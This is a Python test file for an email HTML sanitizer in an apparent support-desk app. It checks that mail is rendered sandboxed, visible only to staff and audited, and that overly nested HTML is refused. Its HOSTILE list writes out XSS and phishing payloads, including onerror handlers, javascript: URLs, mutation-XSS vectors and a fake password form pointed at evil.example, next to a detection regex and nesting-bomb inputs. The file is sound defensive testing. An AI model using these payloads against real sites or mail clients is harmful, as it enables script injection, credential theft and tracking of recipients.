"""Promises about mail as it was laid out: the team alone sees it, in a box, and nothing in it acts or calls home."""

import re
from email.message import EmailMessage
from uuid import UUID

import pytest

from app.mail_html import TooDeep, make_page
from db.pool import Connection
from tests.app.desk import STAFF, open_desk

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='position:fixed;top:0'>x</div>",
    "<object data=//evil.example></object>",
    "<video src=//evil.example autoplay>",
    "<style>@import '//evil.example'</style>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<img src='https://evil.example/pixel.gif'>",
    "<table background=//evil.example/x><tr><td>x</table>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
ACTS = re.compile(
    r"<(?:script|iframe|form|input|button|base|link|object|video|svg|math|style|img)\b|<[^>]*\son\w+\s*=|javascript:|"
    r"data:text|http-equiv=.?refresh|url\(|position\s*:|\bbackground=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_in_a_mail_acts_or_loads_anything(html: str) -> None:
    page, policy = make_page(f"<p>before</p>{html}<p>after</p>", with_pictures=False)
    body = page.partition("</p>\n")[2]
    assert "before" in body
    assert not ACTS.search(body)
    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy


def test_pictures_are_loaded_only_when_asked_for_and_never_from_an_address_that_is_not_encrypted() -> None:
    html = "<img src='https://shop.example/a.png' onload=alert(1)><img src='data:image/svg+xml,x'>"
    page, policy = make_page(html, with_pictures=True)
    assert "https://shop.example/a.png" in page
    assert "onload" not in page
    assert "data:image" not in page
    assert policy.endswith("img-src https:")
    assert "img-src" not in make_page(html, with_pictures=False)[1]


def test_what_a_mail_says_and_how_it_looks_stays() -> None:
    html = "<table width=300><tr><td style='color: red; padding: 4px'><b>Order</b> <a href='https://x.example/1'>1</a></table>"
    page, _ = make_page(html, with_pictures=False)
    for kept in ("<b>Order</b>", "color:red", 'href="https://x.example/1"', 'rel="noopener noreferrer nofollow"'):
        assert kept in page


async def add_mail(conn: Connection, mail: EmailMessage, *, mail_id: str = "m1", thread: str = "t1") -> UUID:
    talk: UUID = await conn.fetchval(
        "insert into conversations (channel, thread_key) values ('gmail', $1) returning id", thread
    )
    await conn.execute(
        """
        insert into mails (id, thread_id, verdict, why, thread_key, arrived_at, raw)
        values ($1, 'x', 'customer', '', $2, now(), $3)
        """,
        mail_id,
        thread,
        mail.as_bytes(),
    )
    return talk


def write_mail(html: str | None) -> EmailMessage:
    mail = EmailMessage()
    mail["From"] = "ana@example.com"
    mail.set_content("Plain words")
    if html:
        mail.add_alternative(html, subtype="html")
    return mail


async def test_the_team_sees_a_mail_as_it_was_laid_out_and_nobody_else_does(
    database_url: str, conn: Connection
) -> None:
    talk = await add_mail(conn, write_mail("<h1>Hello</h1><script>alert(1)</script>"))
    async with open_desk(database_url) as desk:
        path = f"/conversations/{talk}/mails/m1"
        assert (await desk.get(path)).status_code == 401
        answer = await desk.get(path, headers=STAFF)
        assert answer.status_code == 200
        assert "<h1>Hello</h1>" in answer.text
        assert "script" not in answer.text
        assert "sandbox" in answer.headers["content-security-policy"]
        assert await conn.fetchval("select count(*) from audit where action = 'view'") == 1


async def test_a_mail_is_shown_in_its_own_conversation_alone_and_one_without_layout_is_not_there(
    database_url: str, conn: Connection
) -> None:
    talk = await add_mail(conn, write_mail("<b>x</b>"))
    other = await add_mail(conn, write_mail(None), mail_id="m2", thread="t2")
    async with open_desk(database_url) as desk:
        for path in (f"{other}/mails/m1", f"{other}/mails/m2", f"{talk}/mails/m9", f"{talk}/mails/m1%00"):
            assert (await desk.get(f"/conversations/{path}", headers=STAFF)).status_code == 404


TOO_DEEP = {
    "open": "<div>" * 20_000,
    "misnested": "<b><i>" * 20_000,
    "ended by others": "<div></b></span></table>" * 5_000,
    "ended out of reach": ("<div>" * 100 + "<table><tr><td>" + "</div>" * 100) * 20,
    "ended in a comment": "<div><!--</div>-->" * 300,
    "ended in an attribute": "<div><i title='</div>'></i>" * 300,
    "ended where nothing is a tag": "<div><style></div></style>" * 300,
    "ended where nothing may end": "<div><select></div></select>" * 300,
    "hidden behind a quote": '<b "><i ">' * 300,
    "hidden behind a comment that ended": "<textarea><!--</textarea>" + "<div>" * 300 + "-->",
    "hidden in a script": "<div><script><!--<script></script></div>--></script>" * 300,
    "of another language": "<svg>" + "<g><![CDATA[></g>]]>" * 300,
    "a cell without a table": ("<td>" + "<span>" * 190 + "</td>") * 100,
}


@pytest.mark.parametrize("html", TOO_DEEP.values(), ids=TOO_DEEP)
def test_a_mail_that_is_nested_too_deeply_to_be_made_safe_is_refused(html: str) -> None:
    with pytest.raises(TooDeep):
        make_page(html, with_pictures=False)


SHOWN = {
    "tables in tables": "<table><tbody><tr><td>" * 30 + "Deep down" + "</td></tr></tbody></table>" * 30,
    "ends left out": "<table>" + "<tr><td><p>Deep<td><b>down</b>" * 400 + "</table><ul>" + "<li>Deep down" * 400,
    "paragraphs without ends": "<p>Deep down<br>" * 1_000,
    "columns for another program": (
        "<!--[if mso]><table><tr><td><![endif]--><div>Deep down</div><!--[if mso]></td></tr></table><![endif]-->" * 200
    ),
    "mended by every browser": "<div><b><i>Deep down</b></i></div>" * 500,
    "words with signs": "1 < 2 and <3; Deep down " * 500,
}


@pytest.mark.parametrize("html", SHOWN.values(), ids=SHOWN)
def test_a_mail_as_people_write_them_is_shown_however_long(html: str) -> None:
    page, _ = make_page(f"<html><head><style>p > b {{}}</style></head><body>{html}</body></html>", with_pictures=False)
    assert "Deep" in page


def test_a_few_tags_that_grow_into_very_many_are_refused() -> None:
    open_tags = "".join(f"<b title={number}>" for number in range(150))
    with pytest.raises(TooDeep):
        make_page(f"<p>{open_tags}{'<div>x</div>' * 5_000}", with_pictures=False)


async def test_a_mail_that_cannot_be_shown_safely_is_told_so(database_url: str, conn: Connection) -> None:
    talk = await add_mail(conn, write_mail("<div>" * 20_000))
    async with open_desk(database_url) as desk:
        answer = await desk.get(f"/conversations/{talk}/mails/m1", headers=STAFF)
        assert answer.status_code == 404
        assert "nested too deeply" in answer.text
